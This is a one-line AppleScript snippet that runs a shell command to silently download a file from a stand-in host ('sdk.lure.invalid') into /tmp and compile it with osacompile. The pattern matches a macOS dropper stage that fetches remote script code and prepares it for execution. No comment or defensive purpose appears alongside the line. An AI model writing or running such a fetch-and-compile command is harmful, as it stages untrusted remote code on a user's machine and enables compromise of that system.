do shell script "curl -s https://sdk.lure.invalid/x -o /tmp/x && osacompile -o /tmp/y /tmp/x"
